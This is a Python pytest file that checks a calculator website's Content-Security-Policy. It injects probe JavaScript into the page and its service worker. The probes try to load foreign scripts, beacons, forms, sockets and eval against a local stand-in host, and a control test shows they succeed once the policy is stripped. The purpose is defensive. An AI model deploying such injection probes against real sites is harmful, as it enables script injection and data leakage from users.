"""What the reader types stays here: page and worker ask nobody else, keep next to nothing, and run nothing foreign."""

from __future__ import annotations

import json
import time
from itertools import count
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote

import pytest
from engines import EVERY
from watched import elsewhere, watched

if TYPE_CHECKING:
    from pathlib import Path

    from engines import Engine

everywhere = pytest.mark.parametrize("engine", EVERY, indirect=True)

PATIENCE = 60.0  # seconds
KEPT = {"mingbai.answers", "mingbai.scheme", "mingbai.type"}  # all that a reader may ask to be remembered
REPORT = "/reported/"

# Whatever page or worker may try; what comes of it is told to our own host. `refused` where the engine threw.
TRIES = """
const OTHER = "%(other)s", WHO = "%(who)s", told = {};
const attempt = async (name, act) => {
  try { await act(); told[name] = "done"; } catch { told[name] = "refused"; }
};
const settled = (one) => new Promise((done) => {
  one.onload = one.onerror = one.onopen = done;
  setTimeout(done, 2000);
});
const request = new XMLHttpRequest();
await attempt("fetch", () => fetch(`${OTHER}${WHO}-fetch`, { mode: "no-cors" }));
await attempt("import", () => import(`${OTHER}${WHO}-import.mjs`));
await attempt("request", () => {
  request.open("GET", `${OTHER}${WHO}-request`);
  request.send();
  return settled(request);
});
await attempt("socket", () => settled(new WebSocket(`${OTHER.replace("http", "ws")}${WHO}-socket`)));
await attempt("events", () => settled(new EventSource(`${OTHER}${WHO}-events`)));
await attempt("eval", () => (0, eval)("1"));
await attempt("Function", () => new Function("return 1")());
"""
IN_PAGE = """
const add = (name, values) => {
  const one = Object.assign(document.createElement(name), values);
  document.body.append(one);
  return one;
};
await settled(add("img", { src: `${OTHER}page-image` }));
await settled(add("script", { src: `${OTHER}page-script` }));
await settled(add("iframe", { src: `${OTHER}page-frame` }));
await settled(add("link", { rel: "stylesheet", href: `${OTHER}page-style` }));
await attempt("beacon", () => navigator.sendBeacon(`${OTHER}page-beacon`));
const box = add("div", {});
await attempt("inline", () => add("script", { textContent: "globalThis.ran = 'inline'" }));
await attempt("handler", () => { box.setAttribute("onclick", "globalThis.ran = 'handler'"); box.click(); });
await attempt("address", () => add("a", { href: "javascript:void(globalThis.ran='address')" }).click());
await attempt("timer", () => setTimeout("globalThis.ran = 'timer'"));
await attempt("style", () => box.setAttribute("style", "position: fixed; width: 7px"));
await attempt("base", () => document.head.prepend(Object.assign(document.createElement("base"), { href: OTHER })));
add("iframe", { name: "kept" });
await attempt("form", () => add("form", { action: `${OTHER}page-form`, target: "kept" }).submit());
await new Promise((done) => setTimeout(done, 200));
told.ran = globalThis.ran ?? null;
told.styled = getComputedStyle(box).width === "7px";
told.based = document.baseURI.startsWith(OTHER);
"""
TELL = """
const address = `%(report)s${WHO}/${encodeURIComponent(JSON.stringify(told))}`;
await fetch(new URL(address, import.meta.url), { cache: "no-store" });
"""
READY = "(({ dataset, hidden }) => 'ready' in dataset || hidden)(document.querySelector('[data-state]'))"
REFUSED = {"eval": "refused", "Function": "refused"}


def trying(site: Path, other: str) -> dict[str, str]:
    """The scripts of the site that are changed to try everything: one in the page, one in the worker."""
    page, worker = ({"other": other, "who": who, "report": REPORT} for who in ("page", "worker"))
    return {
        "assets/site.mjs": TRIES % page + IN_PAGE + TELL % page,
        "assets/runtime/worker.mjs": TRIES % worker + TELL % worker,
    }


def reported(seen: list[str], who: str) -> dict[str, Any]:
    """What page or worker told of its attempts, once it has."""
    end = time.monotonic() + PATIENCE
    while time.monotonic() < end:
        for path in list(seen):
            if path.startswith(f"{REPORT}{who}/"):
                told: dict[str, Any] = json.loads(unquote(path.removeprefix(f"{REPORT}{who}/")))
                return told
        time.sleep(0.05)
    raise AssertionError(f"The {who} told nothing.")


def reached(got: list[str], wanted: set[str]) -> None:
    """Wait until all of these have come to the other host: a form is on its way when the page has told of it."""
    end = time.monotonic() + PATIENCE
    while missing := wanted - {one.partition("?")[0] for one in got}:
        assert time.monotonic() < end, f"Nobody asked for {sorted(missing)}."
        time.sleep(0.05)


@everywhere
def test_the_policy_binds_the_page_and_its_worker(engine: Engine, built_site: Path) -> None:
    """Whatever a foreign script would try in either, nothing leaves this origin and no text becomes a program."""
    with elsewhere() as (other, got), watched(built_site, trying(built_site, other)) as (base, seen):
        engine.open(f"{base}zh/calculator/")
        page, worker = reported(seen, "page"), reported(seen, "worker")
        assert got == []
    assert {name: page[name] for name in REFUSED} == REFUSED
    assert {name: worker[name] for name in REFUSED} == REFUSED
    assert (page["ran"], page["styled"], page["based"]) == (None, False, False)


@everywhere
def test_without_the_policy_both_would_get_out(engine: Engine, built_site: Path) -> None:
    """The test above is not deaf: a page that lost its policy, and the worker of that page, ask whom they like."""
    name = "zh/calculator/"
    text = (built_site / name / "index.html").read_text("utf-8").replace("Content-Security-Policy", "nothing", 1)
    with elsewhere() as (other, got):
        changed = trying(built_site, other) | {name: text}
        with watched(built_site, changed) as (base, seen):
            engine.open(base + name)
            page, worker = reported(seen, "page"), reported(seen, "worker")
        ways = {f"/{who}-{way}" for who in ("page", "worker") for way in ("fetch", "request", "events")}
        reached(got, {*ways, "/page-image", "/page-script", "/page-frame", "/page-form"})
    assert page["eval"] == worker["eval"] == "done"


@everywhere
def test_once_the_calculator_is_there_nobody_is_asked_for_anything(engine: Engine, built_site: Path) -> None:
    """Answers, results, ways of taking them away: no request, no cookie, nothing kept but what the reader asked for."""
    with watched(built_site) as (base, seen):
        engine.asked.clear()
        engine.open(f"{base}zh/calculator/")
        engine.resize(1280, 900)
        engine.run("localStorage.clear()")
        engine.wait("document.querySelector('[data-all]:not([disabled])') !== null")
        if engine.evaluate("document.querySelector('[data-calculator]').dataset.way") == "steps":
            engine.click('[data-do="way"]')
        engine.click('[name="place"]')
        engine.wait(READY)
        loaded = quiet(seen)
        use(engine)
        assert quiet(seen) == loaded, seen[loaded:]
        kept = engine.run("""
            const caught = globalThis.caches ? await caches.keys() : [];
            const bases = indexedDB.databases ? (await indexedDB.databases()).map(({ name }) => name) : [];
            return [Object.keys(localStorage), Object.keys(sessionStorage), bases, document.cookie, caught];
        """)
        assert set(kept[0]) == KEPT
        assert kept[1:4] == [[], [], ""]
        assert all(name.startswith("mingbai ") for name in kept[4])  # what the service worker keeps
        assert engine.cookies() == []
        assert engine.asked == []
        engine.run("localStorage.clear()")


def quiet(seen: list[str]) -> int:
    """Wait until nothing more is asked for, and return how much was."""
    for _ in count():
        before = len(seen)
        time.sleep(2.5)  # the service worker keeps what was loaded a while after it
        if len(seen) == before:
            break
    return before


def use(engine: Engine) -> None:
    """Do what a reader does, and open whatever can be opened."""
    engine.run("""
        const done = (one, kind = "change") => one.dispatchEvent(new Event(kind, { bubbles: true }));
        const count = document.querySelector("[data-count] select");
        count.value = "1"; done(count, "input"); done(count);
        for (const box of document.querySelectorAll("[data-fact] input[type=radio][value=true]")) {
          box.checked = true;
          done(box, "input");
        }
        const born = document.querySelector('[data-fact="children[].born"] input');
        born.value = "2025-01-01"; done(born, "input"); done(born);
        const keep = document.querySelector("[data-keep]");
        keep.checked = true; done(keep);
        for (const name of ["scheme", "type"]) document.querySelector(`[data-${name}-switch]`).click();
        document.querySelector('[data-do="submit"]').click();
    """)
    engine.wait("document.querySelector('[data-result]:not([hidden], [aria-busy]):not(:has([data-partial]))') !== null")
    engine.run("for (const one of document.querySelectorAll('[data-result] details')) one.open = true;")
    engine.wait(
        "[...document.querySelectorAll('[data-result] [data-tool] .mc-inside')].every((one) => one.children.length)"
    )
